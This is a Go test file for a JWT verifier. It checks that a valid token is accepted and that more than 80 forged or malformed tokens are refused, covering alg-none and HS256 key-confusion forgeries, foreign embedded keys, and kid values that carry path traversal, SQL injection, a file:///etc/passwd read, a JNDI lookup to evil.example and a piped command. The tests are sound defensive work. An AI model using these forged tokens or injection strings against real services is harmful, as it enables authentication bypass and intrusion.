package jwt_test

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/hashicorp/go-hclog"

	"github.com/wardroom/wardroom/core/coretest"
	"github.com/wardroom/wardroom/core/jwt"
)

// keys are made once: RSA ones take long.
var keys = sync.OnceValue(func() map[string]crypto.Signer {
	must := func(k crypto.Signer, err error) crypto.Signer {
		if err != nil {
			panic(err)
		}
		return k
	}
	rsaKey := func(bits int) crypto.Signer { k, err := rsa.GenerateKey(rand.Reader, bits); return must(k, err) }
	ecKey := func(c elliptic.Curve) crypto.Signer { k, err := ecdsa.GenerateKey(c, rand.Reader); return must(k, err) }
	_, ed, err := ed25519.GenerateKey(rand.Reader)
	return map[string]crypto.Signer{
		"rsa": rsaKey(2048), "p256": ecKey(elliptic.P256()), "p384": ecKey(elliptic.P384()), "ed": must(ed, err),
		"foreign": rsaKey(2048), "foreign-p256": ecKey(elliptic.P256()),
	}
})

// issuer is a server of keys, and the clock of whoever verifies.
type issuer struct {
	*httptest.Server
	clock   *coretest.Clock
	set     atomic.Pointer[[]byte]
	status  atomic.Int64
	fetches atomic.Int64
}

func newIssuer(t testing.TB) *issuer {
	t.Helper()
	i := &issuer{clock: coretest.NewClock()}
	i.status.Store(http.StatusOK)
	i.publish("rsa", "p256", "p384", "ed")
	i.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		i.fetches.Add(1)
		w.WriteHeader(int(i.status.Load()))
		_, _ = w.Write(*i.set.Load())
	}))
	t.Cleanup(i.Close)
	return i
}

func (i *issuer) publish(names ...string) {
	var set jose.JSONWebKeySet
	for _, n := range names {
		set.Keys = append(set.Keys, jose.JSONWebKey{Key: keys()[n].Public(), KeyID: n})
	}
	i.publishSet(set)
}

func (i *issuer) publishSet(set jose.JSONWebKeySet) {
	text, err := json.Marshal(set)
	if err != nil {
		panic(err)
	}
	i.set.Store(&text)
}

func (i *issuer) verifier(t testing.TB, algorithms ...string) *jwt.Verifier {
	t.Helper()
	client := i.Client()
	v, err := jwt.New(jwt.Options{
		Issuer: "https://id.example", Audience: "wardroom", KeySetURI: i.URL, Algorithms: algorithms,
		Client: client, Clock: i.clock, Logger: hclog.NewNullLogger(), RolesClaim: "realm_access.roles",
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(v.Close)
	return v
}

// members is a JSON object of a token.
type members map[string]any

func (i *issuer) claims(change members) members {
	now := i.clock.Now().Unix()
	return members{
		"iss": "https://id.example", "aud": "wardroom", "sub": "alice", "name": "Alice A.", "iat": now, "exp": now + 300,
		"scope": "patterns:read executions:create", "groups": []string{"devs"},
		"realm_access": members{"roles": []string{"developer"}},
	}.with(change)
}

func (m members) with(change members) members {
	for k, v := range change {
		if v == nil {
			delete(m, k)
		} else {
			m[k] = v
		}
	}
	return m
}

func (m members) part() string {
	text, err := json.Marshal(m)
	if err != nil {
		panic(err)
	}
	return encode(text)
}

func encode(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

// sign makes a token by hand, so that it can be wrong in each way.
func sign(key string, header members, payload string) string {
	input := header.part() + "." + payload
	sum := sha256.Sum256([]byte(input))
	var signature []byte
	var err error
	switch k := keys()[key].(type) {
	case *rsa.PrivateKey:
		if alg, _ := header["alg"].(string); strings.HasPrefix(alg, "PS") {
			signature, err = rsa.SignPSS(rand.Reader, k, crypto.SHA256, sum[:], &rsa.PSSOptions{SaltLength: 32})
		} else {
			signature, err = rsa.SignPKCS1v15(rand.Reader, k, crypto.SHA256, sum[:])
		}
	case *ecdsa.PrivateKey:
		r, s, e := ecdsa.Sign(rand.Reader, k, sum[:])
		size := (k.Params().BitSize + 7) / 8
		signature, err = append(r.FillBytes(make([]byte, size)), s.FillBytes(make([]byte, size))...), e
	case ed25519.PrivateKey:
		signature = ed25519.Sign(k, []byte(input))
	}
	if err != nil {
		panic(err)
	}
	return input + "." + encode(signature)
}

func TestVerify(t *testing.T) {
	i := newIssuer(t)
	v := i.verifier(t)
	for name, token := range map[string]string{
		"RS256":            sign("rsa", members{"alg": "RS256", "kid": "rsa", "typ": "JWT"}, i.claims(nil).part()),
		"PS256":            sign("rsa", members{"alg": "PS256", "kid": "rsa"}, i.claims(nil).part()),
		"ES256":            sign("p256", members{"alg": "ES256", "kid": "p256", "typ": "at+jwt"}, i.claims(nil).part()),
		"EdDSA":            sign("ed", members{"alg": "EdDSA", "kid": "ed", "typ": "application/at+jwt"}, i.claims(nil).part()),
		"no kid":           sign("p256", members{"alg": "ES256"}, i.claims(nil).part()),
		"list of audience": sign("ed", members{"alg": "EdDSA"}, i.claims(members{"aud": []string{"other", "wardroom"}}).part()),
		"a second late":    sign("ed", members{"alg": "EdDSA"}, i.claims(members{"exp": i.clock.Now().Unix() - 59}).part()),
		"keys in it":       sign("rsa", members{"alg": "RS256", "kid": "rsa", "jku": "https://evil.example"}, i.claims(nil).part()),
		"fraction of time": sign("ed", members{"alg": "EdDSA"}, i.claims(members{"exp": float64(i.clock.Now().Unix()) + 9.5}).part()),
		"scp":              sign("ed", members{"alg": "EdDSA"}, i.claims(members{"scope": nil, "scp": []string{"patterns:read", "executions:create"}}).part()),
	} {
		t.Run(name, func(t *testing.T) {
			who, err := v.Verify(t.Context(), token)
			if err != nil {
				t.Fatal(err)
			}
			got := fmt.Sprint(who.Subject, who.Name, who.Groups, who.Roles, who.Scopes)
			if want := "aliceAlice A.[devs] [developer] [patterns:read executions:create]"; got != want {
				t.Fatalf("got %s, want %s", got, want)
			}
		})
	}
	if n := i.fetches.Load(); n != 1 {
		t.Errorf("%d fetches of keys, want 1", n)
	}
}

// What the log holds of a token that is refused for its times shows how far the clocks are apart.
func TestClocksApart(t *testing.T) {
	i := newIssuer(t)
	v, now := i.verifier(t), i.clock.Now().Unix()
	for want, change := range map[string]members{
		"expired 1m30s ago": {"exp": now - 90}, "(iat is 5m0s ahead)": {"iat": now + 300}, "(nbf is 1m1s ahead)": {"nbf": now + 61},
	} {
		_, err := v.Verify(t.Context(), sign("ed", members{"alg": "EdDSA"}, i.claims(change).part()))
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%v: %v", change, err)
		}
	}
}

// TestAttacks refuses what attackers try: RFC 8725, the OWASP cheat sheet on tokens, and known defects of libraries.
func TestAttacks(t *testing.T) {
	i := newIssuer(t)
	v := i.verifier(t)
	now := i.clock.Now().Unix()
	good := i.claims(nil).part()
	rs := members{"alg": "RS256", "kid": "rsa"}
	public, err := x509.MarshalPKIXPublicKey(keys()["rsa"].Public())
	if err != nil {
		t.Fatal(err)
	}
	symmetric := func(alg string, secret []byte) string {
		input := members{"alg": alg, "kid": "rsa"}.part() + "." + good
		mac := hmac.New(sha256.New, secret)
		mac.Write([]byte(input))
		return input + "." + encode(mac.Sum(nil))
	}
	signed := sign("rsa", rs, good)
	parts := strings.Split(signed, ".")
	es := strings.Split(sign("p256", members{"alg": "ES256", "kid": "p256"}, good), ".")
	header := func(change members) string {
		return sign("rsa", members{"alg": "RS256", "kid": "rsa"}.with(change), good)
	}
	claim := func(change members) string { return sign("rsa", rs, i.claims(change).part()) }
	raw := func(text string) string { return sign("rsa", rs, encode([]byte(text))) }
	doubled := strings.TrimSuffix(string(mustDecode(good)), "}")
	own := jose.JSONWebKey{Key: keys()["foreign"].Public(), KeyID: "rsa"}

	table := map[string]string{
		// No signature, or not that of the issuer.
		"alg none":                    members{"alg": "none"}.part() + "." + good + ".",
		"alg none with a signature":   members{"alg": "none"}.part() + "." + good + "." + parts[2],
		"alg None":                    header(members{"alg": "None"}),
		"alg NONE":                    header(members{"alg": "NONE"}),
		"alg nOnE":                    header(members{"alg": "nOnE"}),
		"alg empty":                   header(members{"alg": ""}),
		"alg missing":                 header(members{"alg": nil}),
		"alg a number":                header(members{"alg": 256}),
		"alg a list":                  header(members{"alg": []string{"RS256"}}),
		"alg in small letters":        header(members{"alg": "rs256"}),
		"alg with a space":            header(members{"alg": "RS256 "}),
		"alg unknown":                 header(members{"alg": "RS1"}),
		"alg not in the list":         header(members{"alg": "RS512"}),
		"alg of encryption":           header(members{"alg": "RSA-OAEP"}),
		"HS256 with the public key":   symmetric("HS256", public),
		"HS256 with the key as PEM":   symmetric("HS256", []byte("-----BEGIN PUBLIC KEY-----\n"+base64.StdEncoding.EncodeToString(public)+"\n-----END PUBLIC KEY-----\n")),
		"HS256 with the empty secret": symmetric("HS256", nil),
		"HS256 with the key set":      symmetric("HS256", *i.set.Load()),
		"HS512":                       symmetric("HS512", public),
		"RS256 by MAC":                symmetric("RS256", public),
		"signature missing":           parts[0] + "." + parts[1] + ".",
		"signature cut":               signed[:len(signed)-8],
		"signature of another token":  parts[0] + "." + i.claims(members{"sub": "admin"}).part() + "." + parts[2],
		"signature of zeros, RSA":     parts[0] + "." + parts[1] + "." + encode(make([]byte, 256)),
		"signature of zeros, ECDSA":   es[0] + "." + es[1] + "." + encode(make([]byte, 64)),
		"signature of ECDSA as ASN.1": es[0] + "." + es[1] + "." + encode(asn1(t, es[0]+"."+es[1])),
		"signature with a bit more":   parts[0] + "." + parts[1] + "." + flipLast(parts[2]),
		"signature of a foreign key":  sign("foreign", rs, good),
		"ECDSA by a foreign key":      sign("foreign-p256", members{"alg": "ES256", "kid": "p256"}, good),
		"key of another kind":         sign("rsa", members{"alg": "RS256", "kid": "p256"}, good),
		"ES256 with a P-384 key":      sign("p384", members{"alg": "ES256", "kid": "p384"}, good),
		"EdDSA with the id of RSA":    sign("ed", members{"alg": "EdDSA", "kid": "rsa"}, good),
		"PS256 signed as RS256":       strings.Replace(signed, parts[0], members{"alg": "PS256", "kid": "rsa"}.part(), 1),
		"key in the header":           sign("foreign", rs.copy().with(members{"jwk": own}), good),
		"address of keys in it":       sign("foreign", rs.copy().with(members{"jku": i.URL + "/evil"}), good),
		"certificate in the header":   sign("foreign", rs.copy().with(members{"x5c": []string{encode(public)}, "x5u": "https://evil.example"}), good),
		"embedded key without kid":    sign("foreign", members{"alg": "RS256", "jwk": own}, good),
		"thumbprint of another":       sign("foreign", rs.copy().with(members{"x5t#S256": "abc"}), good),
		// Tricks with ids of keys and headers.
		"kid unknown":               header(members{"kid": "nope"}),
		"kid a path":                header(members{"kid": "../../../../dev/null"}),
		"kid SQL":                   header(members{"kid": "rsa' OR '1'='1"}),
		"kid an address":            header(members{"kid": i.URL + "/evil"}),
		"kid a file":                header(members{"kid": "file:///etc/passwd"}),
		"kid a template":            header(members{"kid": "${jndi:ldap://evil.example/a}"}),
		"kid a command":             header(members{"kid": "rsa|id"}),
		"kid with a NUL":            header(members{"kid": "rsa\x00"}),
		"kid with a line break":     header(members{"kid": "rsa\nx"}),
		"kid huge":                  header(members{"kid": strings.Repeat("k", 5000)}),
		"kid a number":              header(members{"kid": 1}),
		"kid an object":             header(members{"kid": members{"a": 1}}),
		"kid in capitals":           header(members{"kid": "RSA"}),
		"kid null":                  signHeader(`{"alg":"RS256","kid":null}`, good),
		"crit":                      header(members{"crit": []string{"exp"}}),
		"crit empty":                header(members{"crit": []string{}}),
		"b64 false":                 header(members{"b64": false}),
		"zip":                       header(members{"zip": "DEF"}),
		"enc":                       header(members{"enc": "A256GCM"}),
		"typ of a logout token":     header(members{"typ": "logout+jwt"}),
		"typ of a DPoP proof":       header(members{"typ": "dpop+jwt"}),
		"typ a number":              header(members{"typ": 3}),
		"a token inside":            sign("rsa", rs.copy().with(members{"cty": "JWT"}), encode([]byte(signed))),
		"alg twice, none last":      signHeader(`{"alg":"RS256","kid":"rsa","alg":"none"}`, good),
		"alg twice, none first":     signHeader(`{"alg":"none","kid":"rsa","alg":"RS256"}`, good),
		"alg by an escape":          signHeader(`{"alg":"RS256","kid":"rsa","\u0061lg":"none"}`, good),
		"header no object":          signHeader(`["RS256"]`, good),
		"header null":               signHeader(`null`, good),
		"header with more after it": signHeader(`{"alg":"RS256","kid":"rsa"}{}`, good),
		"header deep":               signHeader(`{"alg":"RS256","kid":"rsa","x":`+strings.Repeat("[", 3000)+strings.Repeat("]", 3000)+`}`, good),
		// Forms.
		"empty":                 "",
		"two dots":              "..",
		"two parts":             parts[0] + "." + parts[1],
		"four parts":            signed + ".x",
		"five parts, encrypted": "a.b.c.d.e",
		"JSON serialization":    `{"protected":"` + parts[0] + `","payload":"` + parts[1] + `","signature":"` + parts[2] + `"}`,
		"standard base64":       strings.ReplaceAll(signed, parts[2], parts[2]+"="),
		"padded header":         strings.Replace(signed, ".", "=.", 1),
		"line break inside":     signed[:len(signed)/2] + "\n" + signed[len(signed)/2:],
		"space before":          " " + signed,
		"space behind":          signed + " ",
		"NUL behind":            signed + "\x00",
		"huge":                  claim(members{"x": strings.Repeat("x", 20<<10)}),
		"not base64":            "!!!." + parts[1] + "." + parts[2],
		// Claims.
		"no claims":                  raw(`{}`),
		"claims null":                raw(`null`),
		"claims a list":              raw(`[]`),
		"claims a text":              raw(`"alice"`),
		"claims no JSON":             raw(`alice`),
		"claims with more after":     raw(string(mustDecode(good)) + "{}"),
		"claims deep":                claim(members{"x": json.RawMessage(strings.Repeat("[", 40) + strings.Repeat("]", 40))}),
		"sub twice":                  raw(doubled + `,"sub":"admin"}`),
		"aud twice":                  raw(doubled + `,"aud":"wardroom"}`),
		"no UTF-8":                   raw(doubled + ",\"x\":\"\xff\"}"),
		"iss missing":                claim(members{"iss": nil}),
		"iss another":                claim(members{"iss": "https://evil.example"}),
		"iss with a slash":           claim(members{"iss": "https://id.example/"}),
		"iss in capitals":            claim(members{"iss": "https://ID.example"}),
		"iss longer":                 claim(members{"iss": "https://id.example.evil.example"}),
		"iss a list":                 claim(members{"iss": []string{"https://id.example"}}),
		"aud missing":                claim(members{"aud": nil}),
		"aud another":                claim(members{"aud": "other"}),
		"aud longer":                 claim(members{"aud": "wardroom2"}),
		"aud a list of others":       claim(members{"aud": []string{"a", "b"}}),
		"aud empty list":             claim(members{"aud": []string{}}),
		"aud an object":              claim(members{"aud": members{"wardroom": true}}),
		"aud as a text of a list":    claim(members{"aud": `["wardroom"]`}),
		"exp missing":                claim(members{"exp": nil}),
		"exp past":                   claim(members{"exp": now - 61}),
		"exp just past":              claim(members{"exp": now - 60}),
		"exp zero":                   claim(members{"exp": 0}),
		"exp negative":               claim(members{"exp": -1}),
		"exp a text":                 claim(members{"exp": fmt.Sprint(now + 300)}),
		"exp null":                   raw(`{"iss":"https://id.example","aud":"wardroom","sub":"alice","exp":null}`),
		"exp true":                   claim(members{"exp": true}),
		"exp huge":                   claim(members{"exp": json.RawMessage("1e400")}),
		"exp beyond dates":           claim(members{"exp": json.RawMessage("1e18")}),
		"exp that wraps":             claim(members{"exp": json.RawMessage("18446744073709551617")}),
		"nbf in the future":          claim(members{"nbf": now + 61}),
		"nbf a text":                 claim(members{"nbf": "now"}),
		"iat in the future":          claim(members{"iat": now + 3600}),
		"sub missing":                claim(members{"sub": nil}),
		"sub empty":                  claim(members{"sub": ""}),
		"sub a number":               claim(members{"sub": 7}),
		"sub with a line break":      claim(members{"sub": "alice\nadmin"}),
		"sub with an escape":         claim(members{"sub": "alice\x1b[2J"}),
		"sub huge":                   claim(members{"sub": strings.Repeat("a", 257)}),
		"scope an object":            claim(members{"scope": members{"admin": true}}),
		"scope a list with a number": claim(members{"scope": []any{"patterns:read", 1}}),
		"groups with a list":         claim(members{"groups": []any{[]string{"admins"}}}),
		"groups, too many":           claim(members{"groups": slices.Repeat([]string{"g"}, 600)}),
		"roles with an empty text":   claim(members{"realm_access": members{"roles": []string{""}}}),
	}
	if len(table) < 80 {
		t.Errorf("%d attacks, want at least 80", len(table))
	}
	for name, token := range table {
		t.Run(name, func(t *testing.T) {
			if who, err := v.Verify(t.Context(), token); err == nil {
				t.Fatalf("accepted as %+v", who)
			} else if len(token) > 40 && strings.Contains(err.Error(), token[:40]) {
				t.Fatalf("the error holds the token: %v", err)
			}
		})
	}
	if n := i.fetches.Load(); n > 1 {
		t.Errorf("%d fetches of keys, want one", n)
	}
	if _, err := v.Verify(t.Context(), signed); err != nil {
		t.Errorf("the good token after all that: %v", err)
	}
}

func (m members) copy() members { return members{}.with(m) }

func mustDecode(part string) []byte {
	text, err := base64.RawURLEncoding.DecodeString(part)
	if err != nil {
		panic(err)
	}
	return text
}

// signHeader signs with a header that no JSON encoder writes.
func signHeader(header, payload string) string {
	input := encode([]byte(header)) + "." + payload
	sum := sha256.Sum256([]byte(input))
	signature, err := rsa.SignPKCS1v15(rand.Reader, keys()["rsa"].(*rsa.PrivateKey), crypto.SHA256, sum[:])
	if err != nil {
		panic(err)
	}
	return input + "." + encode(signature)
}

func asn1(t *testing.T, input string) []byte {
	t.Helper()
	sum := sha256.Sum256([]byte(input))
	signature, err := ecdsa.SignASN1(rand.Reader, keys()["p256"].(*ecdsa.PrivateKey), sum[:])
	if err != nil {
		t.Fatal(err)
	}
	return signature
}

// flipLast sets a bit behind the last byte of a text in base64, which lenient decoders leave out.
func flipLast(text string) string {
	const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	return text[:len(text)-1] + string(digits[strings.IndexByte(digits, text[len(text)-1])|1])
}

func TestUnknownKeysAreNoFlood(t *testing.T) {
	i := newIssuer(t)
	v := i.verifier(t)
	for n := range 1000 {
		token := sign("ed", members{"alg": "EdDSA", "kid": fmt.Sprint("k", n)}, i.claims(nil).part())
		if _, err := v.Verify(t.Context(), token); err == nil {
			t.Fatal("accepted")
		}
		i.clock.Advance(60 * time.Millisecond) // a minute in all
	}
	if n := i.fetches.Load(); n > 3 {
		t.Errorf("%d fetches in a minute, want at most 3: one at first, two a minute", n)
	}
}

func TestRotation(t *testing.T) {
	i := newIssuer(t)
	i.publish("rsa")
	v := i.verifier(t)
	token := func(key, alg string) string {
		return sign(key, members{"alg": alg, "kid": key}, i.claims(nil).part())
	}
	if _, err := v.Verify(t.Context(), token("rsa", "RS256")); err != nil {
		t.Fatal(err)
	}
	i.publish("ed")
	i.clock.Advance(31 * time.Second)
	if _, err := v.Verify(t.Context(), token("ed", "EdDSA")); err != nil {
		t.Fatalf("a key that is new: %v", err)
	}
	if _, err := v.Verify(t.Context(), token("rsa", "RS256")); err == nil {
		t.Fatal("a key that was withdrawn is accepted")
	}
}

// A key that the issuer replaced under the same id is fetched when a token comes that it signed, and forged tokens have the keys
// fetched no more often than those with ids that are unknown.
func TestKeyReplacedUnderItsID(t *testing.T) {
	i := newIssuer(t)
	v := i.verifier(t)
	token := func(key string) string { return sign(key, members{"alg": "RS256", "kid": "rsa"}, i.claims(nil).part()) }
	if _, err := v.Verify(t.Context(), token("rsa")); err != nil {
		t.Fatal(err)
	}
	i.publishSet(jose.JSONWebKeySet{Keys: []jose.JSONWebKey{{Key: keys()["foreign"].Public(), KeyID: "rsa"}}})
	i.clock.Advance(31 * time.Second)
	if _, err := v.Verify(t.Context(), token("foreign")); err != nil {
		t.Errorf("the new key: %v", err)
	}
	if _, err := v.Verify(t.Context(), token("rsa")); err == nil {
		t.Error("the former key is accepted")
	}
	i.fetches.Store(0)
	forged := token("rsa")
	for range 1000 {
		if _, err := v.Verify(t.Context(), forged); err == nil {
			t.Fatal("a forged token is accepted")
		}
		i.clock.Advance(60 * time.Millisecond) // a minute in all
	}
	if n := i.fetches.Load(); n > 2 {
		t.Errorf("%d fetches in a minute, want at most 2", n)
	}
}

func TestIssuerAway(t *testing.T) {
	i := newIssuer(t)
	v := i.verifier(t)
	verify := func() error {
		_, err := v.Verify(t.Context(), sign("ed", members{"alg": "EdDSA", "kid": "ed"}, i.claims(nil).part()))
		return err
	}
	i.status.Store(http.StatusBadGateway)
	if err := verify(); !jwt.Unavailable(err) {
		t.Fatalf("got %v, want that the keys are away", err)
	}
	for range 20 { // a back-off: not a fetch for each
		if err := verify(); !jwt.Unavailable(err) {
			t.Fatalf("got %v", err)
		}
	}
	if n := i.fetches.Load(); n != 1 {
		t.Fatalf("%d fetches, want 1", n)
	}
	i.status.Store(http.StatusOK)
	i.clock.Advance(time.Minute)
	if err := verify(); err != nil {
		t.Fatal(err)
	}
	// Away again: what is known goes on for a day, and no longer.
	i.status.Store(http.StatusServiceUnavailable)
	i.clock.Advance(23 * time.Hour)
	if err := verify(); err != nil {
		t.Fatal(err)
	}
	coretest.WaitFor(t, "the fetch in the background", func() bool { _, failed := v.State(); return failed != nil })
	i.clock.Advance(2 * time.Hour)
	if err := verify(); !jwt.Unavailable(err) {
		t.Fatalf("got %v, want that the keys are away", err)
	}
}

func TestHostileKeySets(t *testing.T) {
	weak, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		t.Skip("this Go makes no weak keys")
	}
	key := func(k any, id, use string) json.RawMessage {
		text, err := json.Marshal(jose.JSONWebKey{Key: k, KeyID: id, Use: use})
		if err != nil {
			t.Fatal(err)
		}
		return text
	}
	set := func(list ...json.RawMessage) string {
		text, err := json.Marshal(map[string]any{"keys": list})
		if err != nil {
			t.Fatal(err)
		}
		return string(text)
	}
	ed := keys()["ed"]
	for name, text := range map[string]string{
		"empty":            ``,
		"no keys":          `{"keys":[]}`,
		"another document": `{"error":"x"}`,
		"HTML":             `<html>`,
		"symmetric":        set(key([]byte("0123456789abcdef0123456789abcdef"), "ed", "sig")),
		"for encryption":   set(key(ed.Public(), "ed", "enc")),
		"weak":             set(key(weak.Public(), "ed", "sig")),
		"garbage":          set(json.RawMessage(`{"kty":"OKP","crv":"Ed25519","x":"AA","kid":"ed"}`), json.RawMessage(`7`), json.RawMessage(`null`)),
		"too many":         set(slices.Repeat([]json.RawMessage{key(ed.Public(), "ed", "sig")}, 65)...),
		"too long":         set(key(ed.Public(), "ed", "sig")) + strings.Repeat(" ", 1<<20),
	} {
		t.Run(name, func(t *testing.T) {
			i := newIssuer(t)
			text := []byte(text)
			i.set.Store(&text)
			v := i.verifier(t)
			if _, err := v.Verify(t.Context(), sign("ed", members{"alg": "EdDSA", "kid": "ed"}, i.claims(nil).part())); !jwt.Unavailable(err) {
				t.Fatalf("got %v, want that the keys are away", err)
			}
		})
	}
}

// TestHangingIssuer has a provider that never answers: whoever waits goes when its request does, and Close ends the fetch.
func TestHangingIssuer(t *testing.T) {
	asked := make(chan struct{})
	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		close(asked)
		<-r.Context().Done()
	}))
	defer server.Close()
	i := &issuer{Server: server, clock: coretest.NewClock()}
	v := i.verifier(t)
	ctx, cancel := context.WithCancel(t.Context())
	go func() { <-asked; cancel() }()
	if _, err := v.Verify(ctx, sign("ed", members{"alg": "EdDSA", "kid": "ed"}, i.claims(nil).part())); !jwt.Unavailable(err) {
		t.Fatalf("got %v, want that the keys are away", err)
	}
	v.Close()
}

func TestCacheEnds(t *testing.T) {
	i := newIssuer(t)
	v := i.verifier(t)
	token := sign("ed", members{"alg": "EdDSA", "kid": "ed"}, i.claims(members{"exp": i.clock.Now().Unix() + 10}).part())
	for range 2 {
		if _, err := v.Verify(t.Context(), token); err != nil {
			t.Fatal(err)
		}
	}
	i.clock.Advance(70 * time.Second) // exp and the leeway
	if _, err := v.Verify(t.Context(), token); err == nil {
		t.Fatal("an expired token is accepted from the cache")
	}
}

func TestNewRefusesBadOptions(t *testing.T) {
	for _, o := range []jwt.Options{
		{}, {Issuer: "i", Audience: "a"},
		{Issuer: "i", Audience: "a", KeySetURI: "http://x", Algorithms: []string{"HS256"}},
		{Issuer: "i", Audience: "a", KeySetURI: "http://x", Algorithms: []string{"none"}},
	} {
		if _, err := jwt.New(o); err == nil {
			t.Errorf("%+v is accepted", o)
		}
	}
}

func FuzzVerify(f *testing.F) {
	i := newIssuer(f)
	v := i.verifier(f)
	good := sign("ed", members{"alg": "EdDSA", "kid": "ed"}, i.claims(nil).part())
	f.Add(good)
	f.Add(members{"alg": "none"}.part() + "." + i.claims(nil).part() + ".")
	f.Add(signHeader(`{"alg":"RS256","kid":"rsa","alg":"none"}`, i.claims(nil).part()))
	f.Add("..")
	f.Fuzz(func(t *testing.T, token string) {
		if who, err := v.Verify(t.Context(), token); err == nil && token != good {
			t.Fatalf("accepted as %+v: %q", who, token)
		}
	})
}

func BenchmarkVerify(b *testing.B) {
	i := newIssuer(b)
	v := i.verifier(b)
	for _, kind := range []struct{ alg, key string }{{"RS256", "rsa"}, {"ES256", "p256"}, {"EdDSA", "ed"}} {
		tokens := make([]string, 10_000) // more than are remembered
		for n := range tokens {
			tokens[n] = sign(kind.key, members{"alg": kind.alg, "kid": kind.key}, i.claims(members{"jti": fmt.Sprint(n)}).part())
			if kind.alg == "RS256" && n == 100 {
				tokens = tokens[:n] // signing takes a millisecond
				break
			}
		}
		b.Run(kind.alg+"/first", func(b *testing.B) {
			for n := 0; b.Loop(); n++ {
				if n%len(tokens) == 0 {
					b.StopTimer()
					v = i.verifier(b)
					_, _ = v.Verify(b.Context(), tokens[0])
					b.StartTimer()
				}
				if _, err := v.Verify(b.Context(), tokens[n%len(tokens)]); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
	token := sign("ed", members{"alg": "EdDSA", "kid": "ed"}, i.claims(nil).part())
	b.Run("remembered", func(b *testing.B) {
		for b.Loop() {
			if _, err := v.Verify(b.Context(), token); err != nil {
				b.Fatal(err)
			}
		}
	})
}
